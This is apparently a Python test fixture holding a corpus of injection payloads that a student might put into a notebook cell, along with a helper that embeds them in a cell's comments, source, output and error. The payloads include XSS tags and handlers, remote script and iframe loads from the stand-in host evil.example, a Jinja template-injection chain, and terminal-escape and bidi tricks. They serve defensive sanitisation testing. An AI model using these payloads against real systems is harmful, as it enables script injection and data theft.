"""A corpus of injections: what a student may write, anywhere, in the hope that somebody's browser runs it.

Each would set `window.owned`, open a dialog or ask EVIL for something, if it were live.
"""

from __future__ import annotations

EVIL = "evil.example"
OWNED = "owned"
CORPUS = [
    f"<script>window.{OWNED} = 1; alert(1)</script>",
    f"<script src='https://{EVIL}/x.js'></script>",
    f"<img src=x onerror='window.{OWNED} = 2'>",
    f"<img src='https://{EVIL}/pixel.png'>",
    f"<svg onload='window.{OWNED} = 3'><script>window.{OWNED} = 3</script></svg>",
    f"<iframe src='https://{EVIL}/'></iframe><iframe srcdoc='<script>parent.{OWNED} = 4</script>'></iframe>",
    f"<object data='https://{EVIL}/x.swf'></object><embed src='https://{EVIL}/x'>",
    f"<meta http-equiv='refresh' content='0; url=https://{EVIL}/'>",
    f"<base href='https://{EVIL}/'>",
    f"<link rel='stylesheet' href='https://{EVIL}/x.css'>",
    f"<style>@import 'https://{EVIL}/x.css'; body {{ background: url(https://{EVIL}/x.png) }}</style>",
    f"<div style='width: expression(alert(5)); background: url(https://{EVIL}/y.png)'>x</div>",
    f"<form action='https://{EVIL}/'><button autofocus onfocus='window.{OWNED} = 6'>go</button></form>",
    f"<details open ontoggle='window.{OWNED} = 7'>x</details><body onload='window.{OWNED} = 7'>",
    f"[click](javascript:window.{OWNED}=8) [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![x](https://{EVIL}/z.png) <https://{EVIL}/auto> [r][r]\n\n[r]: javascript:alert(9)",
    f"$\\href{{javascript:window.{OWNED}=10}}{{x}}$ $$\\unicode{{x3c}}script\\unicode{{x3e}}$$ \\(\\require{{html}}\\)",
    f"$\\newcommand{{\\x}}{{\\style{{background:url(https://{EVIL}/m.png)}}{{y}}}}\\x$ \\begin{{equation}}</pre>",
    "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} {# x #} ${7*7} <%= 7*7 %>",
    "\x1b]8;;https://" + EVIL + "/\x07link\x1b]8;;\x07 \x1b[2J\x1b[31mred\x1b]0;title\x07 \x9b31m",
    "</code></pre></div></section></body></html><script>alert(12)</script>",
    "~~~\n```\n<script>alert(13)</script>\n```\n~~~~~~\n<script>alert(14)</script>",
    "--><!--<script>alert(15)</script>--> ]]> <![CDATA[<script>alert(16)</script>]]>",
    "\u202e>tpircs/<)71(trela>tpircs<\u202c \u2028<script>alert(18)</script>\u2029 ＜script＞alert(19)＜/script＞",
    "<scr\0ipt>alert(20)</scr\0ipt> <ſcript>alert(21)</ſcript> &lt;script&gt;alert(22)&lt;/script&gt;",
]
ALL = "\n\n".join(CORPUS)
STUDENT = "<svg onload=alert(23)><script>alert(24)<!--{{7*7}}"
SHOUTS = "49"  # what 7 * 7 would become, were a template of ours to read it


def code(exercise: str, body: str) -> str:
    """A cell that carries the corpus in its comments, its docstring, its output and, by `body`, in its error."""
    comments = "\n".join(f"# {line}" for line in ALL.replace("\0", "").splitlines())
    return f"# exercise: {exercise}\n{comments}\nimport torch\nCORPUS = {ALL!r}\nprint(CORPUS)\n\n\n{body}\n"
